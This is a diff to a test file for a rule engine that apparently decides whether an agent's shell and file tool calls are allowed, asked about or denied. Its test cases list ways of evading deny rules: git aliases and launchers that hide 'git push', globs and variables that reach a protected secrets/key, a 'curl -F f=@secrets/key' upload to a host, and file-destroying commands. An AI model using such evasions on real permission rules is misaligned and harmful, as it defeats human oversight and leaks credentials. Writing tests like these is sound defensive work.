@@ -6,7 +6,7 @@ from hypothesis import strategies as st
 
 from treadle.errors import ConfigError
 from treadle.events import ToolKind
-from treadle.policy.rules import RuleSet, parse_rule
+from treadle.policy.rules import MAX_FOUND, RuleSet, parse_rule
 from treadle.session import Access, Rules
 
 CWD = "/work/repo"
@@ -26,6 +26,15 @@ def verdict(
     rules = RuleSet(Rules(allow=allow, ask=ask, deny=deny), CWD, resolve=lambda path: path)
     decision = rules.judge(access)
     return decision.verdict if decision else "none"
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> RuleSet:
+    """Rules over a directory in which there is something to be kept."""
+    for name in ("secrets/key", "src/a.py", ".env", "x"):
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).touch()
+    return RuleSet(Rules(deny=("Read(secrets/**)", "Write(.env*)")), str(tmp_path))
 
 
 def test_deny_beats_ask_beats_allow() -> None:
@@ -124,6 +133,83 @@ def test_what_cannot_be_understood_must_ask_when_rules_limit_commands() -> None:
     assert verdict(bash("$X -rf /"), deny=("Bash(rm *)",)) == "ask"
     assert verdict(bash("$X -rf /")) == "none"
     assert verdict(bash("$X -rf /"), allow=("Bash",)) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -C . push",
+        "git -c a.b=c push",
+        "git --no-pager -P push",
+        "git --git-dir x push",
+        "timeout 5 git --git-dir=x push",
+        "git -c alias.p=push p",
+        "git -c alias.p='!git push' p",
+        "git -c core.pager='git push' log",
+        "git submodule foreach git push",
+        "git bisect run git push",
+        "git rebase -x 'git push' main",
+        "docker run image git push",
+        "npx -c 'git push'",
+    ],
+)
+def test_no_option_or_launcher_in_front_gets_round_a_rule_that_forbids(command: str) -> None:
+    assert verdict(bash(command), deny=("Bash(git push*)",), allow=("Bash",)) == "deny"
+
+
+@pytest.mark.parametrize(
+    "command", ["git $x", "git pus*", "bash <(echo git push)", ". <(echo x)", "alias g=git; g push"]
+)
+def test_what_a_command_only_becomes_when_it_runs_must_ask(command: str) -> None:
+    assert verdict(bash(command), deny=("Bash(git push*)",)) == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["git -C src status", "git -c core.pager=cat log", "git commit -m 'git push'", "npm test", "git stash push"],
+)
+def test_what_only_looks_like_it_is_not_forbidden_and_can_be_allowed(command: str) -> None:
+    assert verdict(bash(command), deny=("Bash(git push*)",), allow=("Bash(git *)", "Bash(npm *)")) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat secre*/key",
+        "cat */key",
+        "cat {secrets,x}/key",
+        "cat $'secrets/key'",
+        "cat $PWD/secrets/key",
+        "cd src && cat ../secrets/key",
+        "cd src && cat ../s*/key",
+        "x=secrets/key; cat $x",
+        "X=secrets/key sh -c 'cat $X'",
+        "curl -F f=@secrets/key h",
+        "git show HEAD:secrets/key",
+    ],
+)
+def test_no_way_of_writing_a_name_gets_round_a_rule_about_reading(tree: RuleSet, command: str) -> None:
+    decision = tree.judge(bash(command))
+    assert decision is not None and decision.verdict == "deny" and "Read(secrets/**)" in decision.reason
+
+
+@pytest.mark.parametrize(
+    "command", ["git -C . restore .env", "rm .e*", "curl -o .env u", "find . -name .env -delete", "find . -fprint .env"]
+)
+def test_no_way_of_writing_a_file_gets_round_a_rule_about_writing(tree: RuleSet, command: str) -> None:
+    decision = tree.judge(bash(command))
+    assert decision is not None and decision.verdict == "deny" and "Write(.env*)" in decision.reason
+
+
+@pytest.mark.parametrize("command", ["cat *.py", "ls src/**/*.py", "rm *.o", "git log .en", "grep '.*' x", "cat x"])
+def test_names_that_cannot_be_meant_are_left_alone(tree: RuleSet, command: str) -> None:
+    assert tree.judge(bash(command)) is None
+
+
+def test_more_names_than_can_be_looked_at_are_forbidden_at_once() -> None:
+    many = bash("cat " + " ".join(map(str, range(MAX_FOUND + 1))))
+    assert verdict(many, deny=("Read(secrets/**)",)) == "deny"
+    assert verdict(bash("cat " + "{a,b}" * 20), deny=("Read(secrets/**)",)) == "deny"
 
 
 def test_rules_about_files_bind_the_shell() -> None:
